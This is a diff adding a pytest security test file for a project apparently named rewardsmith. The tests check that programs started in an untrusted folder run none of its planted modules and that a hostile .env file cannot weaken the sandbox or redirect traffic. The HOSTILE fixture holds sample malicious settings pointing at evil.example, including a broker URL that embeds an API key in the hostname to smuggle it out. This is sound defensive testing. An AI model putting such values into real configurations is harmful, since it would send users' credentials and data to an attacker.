@@ -1,0 +1,195 @@
+"""The folder that one stands in: nothing of it is executed, and its .env file decides nothing dangerous."""
+
+from __future__ import annotations
+
+import os
+import re
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+from running import clean_environment, in_process, rewardsmith
+
+from rewardsmith.config import Settings, as_environment, settings
+from rewardsmith.engine.interpreter import SAFE_PATH, module_command
+from rewardsmith.errors import UsageError
+from rewardsmith.place import find_place
+from workers.host import Host, command_of
+
+ROOT = Path(__file__).parents[2]
+NAMES = (
+    *("argparse", "json", "socket", "signal", "threading", "subprocess", "logging", "fcntl", "selectors", "secrets"),
+    *("queue", "tempfile", "uuid", "numpy", "sqlalchemy", "pydantic", "torch", "celery", "kombu", "billiard", "yaml"),
+    *("rewardsmith", "workers", "sandbox", "sitecustomize", "usercustomize", "tblib", "django", "gevent"),
+)
+
+
+@pytest.fixture
+def planted(tmp_path) -> Path:
+    """A folder in which every module that anybody might import has been put; each tells that it was run."""
+    for name in NAMES:
+        (tmp_path / f"{name}.py").write_text(f"open({str(tmp_path / 'ran')!r}, 'a').write('{name} ')\n")
+    return tmp_path
+
+
+def said(folder: Path) -> str:
+    return (folder / "ran").read_text() if (folder / "ran").exists() else ""
+
+
+def test_what_is_planted_would_run_without_the_flag(planted):
+    subprocess.run([sys.executable, "-m", "workers.local", "--help"], cwd=planted, capture_output=True)
+    assert said(planted)
+
+
+@pytest.mark.parametrize(
+    ("module", "arguments"),
+    [
+        ("workers.local", ["nojob"]),
+        ("workers.trial", ["1", "me", "1"]),
+        ("workers.host", ["--queue", "none"]),
+        ("workers.scheduler", []),
+        ("workers.alive", []),
+    ],
+)
+def test_no_process_that_we_start_executes_the_current_folder(planted, module, arguments):
+    ran = subprocess.run(
+        module_command(module, *arguments), cwd=planted, capture_output=True, text=True, timeout=60,
+        env=clean_environment() | {"REWARDSMITH_HOME": str(planted / "home")},
+    )  # fmt: skip
+    assert (ran.returncode != 0 and "no rewardsmith database" in ran.stderr) or module == "workers.host", ran.stderr
+    assert said(planted) == ""
+
+
+@pytest.mark.integration
+def test_a_whole_job_executes_nothing_of_the_current_folder(planted):
+    few = ("--set", "training.eval_episodes=10", "--set", "training.final_episodes=10")
+    ran = rewardsmith(
+        planted, "run", "--task", "MiniGrid-Empty-5x5-v0", "--iterations", "1", "--samples", "1", "--steps", "4096",
+        "--set", "rungs=[1.0]", "--confirm", "0", "--slots", "1", *few, env={"OPENAI_API_KEY": "sk-planted-1"},
+    )  # fmt: skip
+    assert ran.returncode == 0, ran.stderr
+    assert said(planted) == ""
+
+
+def test_celery_stands_in_a_folder_that_nobody_can_write(monkeypatch, tmp_path):
+    """It puts its own folder on its path, whatever Python was told."""
+    monkeypatch.chdir(tmp_path)
+    started = []
+    monkeypatch.setattr("workers.host.subprocess.Popen", lambda command, **options: started.append((command, options)))
+    Host({"train": 1}, Settings(home=Path("here")), "kernel")._keep_alive()
+    ((command, options),) = started
+    assert command == command_of("train", 1) and command[1:4] == ["-P", "-m", "celery"]
+    assert options["cwd"] == "/" and options["env"]["REWARDSMITH_HOME"] == str(tmp_path / "here")
+    assert SAFE_PATH.items() <= options["env"].items()
+
+
+def test_settings_are_the_same_in_another_folder(monkeypatch, tmp_path):
+    monkeypatch.chdir(tmp_path)
+    Path(".env").write_text("REWARDSMITH_SLOTS=3\nREWARDSMITH_ARTIFACTS_URL=files\nREWARDSMITH_DEVICES=0,1\n")
+    monkeypatch.setenv("REWARDSMITH_LEASE_SECONDS", "7.5")
+    names = ("slots", "devices", "lease_seconds", "store_url", "url", "artifacts", "allow_weak_sandbox")
+    here = {name: getattr(Settings(), name) for name in names}
+    told = as_environment(Settings())
+    Path("other").mkdir()
+    monkeypatch.chdir("other")
+    for name, value in told.items():
+        monkeypatch.setenv(name, value)
+    assert {name: getattr(Settings(), name) for name in names} == here
+
+
+def test_every_place_that_starts_python_keeps_the_current_folder_off_its_path():
+    places = [p for folder in ("rewardsmith", "workers", "sandbox") for p in ROOT.glob(f"{folder}/**/*.py")]
+    found = {str(p.relative_to(ROOT)) for p in places if "sys.executable" in p.read_text()}
+    assert found == {"rewardsmith/engine/interpreter.py", "sandbox/process.py"}
+    assert '"-P",' in (ROOT / "sandbox" / "process.py").read_text()
+    assert "PYTHONSAFEPATH=1" in (ROOT / "Dockerfile").read_text()
+    recipes = (ROOT / "Makefile").read_text() + (ROOT / "docker-compose.yml").read_text()
+    assert not re.search(r"-m,? (rewardsmith|workers)", recipes.replace("-P, -m, workers.alive", ""))
+
+
+HOSTILE = """
+REWARDSMITH_ALLOW_WEAK_SANDBOX=1
+REWARDSMITH_API_BASE=http://evil.example/v1
+rewardsmith_database_url=postgresql+psycopg://evil.example/rewardsmith
+OPENAI_API_BASE=http://evil.example/v1
+OPENAI_BASE_URL=http://evil.example/v1
+PYTHONPATH=/srv/evil
+SANDBOX_WRAPPER=true
+REWARDSMITH_SLOTS=3
+REWARDSMITH_BROKER_URL=redis://${PLANTED_API_KEY}.evil.example/0
+EXAMPLE_API_KEY=sk-planted-2
+"""
+
+
+@pytest.fixture
+def hostile(tmp_path, monkeypatch) -> Path:
+    monkeypatch.chdir(tmp_path)
+    monkeypatch.setenv("PLANTED_API_KEY", "sk-planted-1")
+    for name in ("HOME", "DATABASE_URL", "API_BASE", "ALLOW_WEAK_SANDBOX", "BROKER_URL", "ENV_FILE_ANNOUNCED"):
+        monkeypatch.delenv(f"REWARDSMITH_{name}", raising=False)
+    Path(".env").write_text(HOSTILE)
+    settings.cache_clear()
+    yield tmp_path
+    settings.cache_clear()
+
+
+def test_a_file_of_the_folder_cannot_lower_the_sandbox_or_send_keys_elsewhere(hostile, capfd):
+    for chosen in (Settings(), settings()):
+        assert (chosen.allow_weak_sandbox, chosen.api_base, chosen.database_url) == (False, None, None)
+        assert chosen.slots == 3 and chosen.broker_url == "redis://${PLANTED_API_KEY}.evil.example/0"
+    assert find_place().url == f"sqlite:///{hostile}/.rewardsmith/rewardsmith.db"
+    told = capfd.readouterr()
+    assert told.out == "" and "sk-planted" not in told.err and "evil" not in told.err.replace(str(hostile), "")
+    sets, refuses = told.err.splitlines()
+    assert sets.endswith("sets EXAMPLE_API_KEY, REWARDSMITH_BROKER_URL, REWARDSMITH_SLOTS")
+    refused = "REWARDSMITH_ALLOW_WEAK_SANDBOX, REWARDSMITH_API_BASE, REWARDSMITH_DATABASE_URL"
+    assert "may not set" in refuses and refuses.endswith(refused)
+
+
+def test_the_environment_itself_still_decides(hostile, monkeypatch):
+    monkeypatch.setenv("REWARDSMITH_API_BASE", "http://localhost:8000/v1")
+    monkeypatch.setenv("REWARDSMITH_ALLOW_WEAK_SANDBOX", "1")
+    monkeypatch.setenv("REWARDSMITH_SLOTS", "5")
+    chosen = Settings()
+    assert (chosen.api_base, chosen.allow_weak_sandbox, chosen.slots) == ("http://localhost:8000/v1", True, 5)
+
+
+def test_what_a_command_has_said_its_children_do_not_say_again(hostile, capfd):
+    settings()
+    assert "REWARDSMITH_SLOTS" in capfd.readouterr().err
+    assert "REWARDSMITH_SLOTS" not in rewardsmith(hostile, "db", "upgrade").stderr
+
+
+def test_a_command_says_it_on_stderr(hostile):
+    (hostile / ".env").write_text("REWARDSMITH_SLOTS=1\nREWARDSMITH_API_BASE=http://evil.example\n")
+    ran = in_process(hostile, "tasks", "list", "--format", "json")
+    assert ran.stderr.count("sets REWARDSMITH_SLOTS") == 1 and ran.stderr.count("REWARDSMITH_API_BASE") == 1
+    assert "evil" not in ran.stderr.replace(str(hostile), "") and ran.stdout.startswith("[")
+
+
+def test_litellm_reads_no_file_by_itself(tmp_path):
+    """It would look above its own folder, where a project with a .venv keeps its .env."""
+    script = (
+        "import dotenv, os\n"
+        "def refused(*a, **k): raise SystemExit('it reads a .env file')\n"
+        "dotenv.load_dotenv = refused\n"
+        "from rewardsmith.agents.pricing import import_litellm\n"
+        "import_litellm()\n"
+    )
+    ran = subprocess.run([sys.executable, "-P", "-c", script], cwd=tmp_path, capture_output=True, text=True)
+    assert ran.returncode == 0, ran.stderr
+
+
+@pytest.mark.parametrize("content", [b"\xff\xfe\x00A=1", b"A=1\n" * 50_000], ids=["no text", "too long"])
+def test_a_file_that_cannot_be_read_is_the_users_to_mend(hostile, content):
+    (hostile / ".env").write_bytes(content)
+    with pytest.raises(UsageError, match=r"\.env cannot be read"):
+        settings()
+    assert in_process(hostile, "ls").returncode == 2
+
+
+def test_a_pipe_in_the_files_place_is_not_waited_for(hostile):
+    (hostile / ".env").unlink()
+    os.mkfifo(hostile / ".env")
+    assert Settings().slots
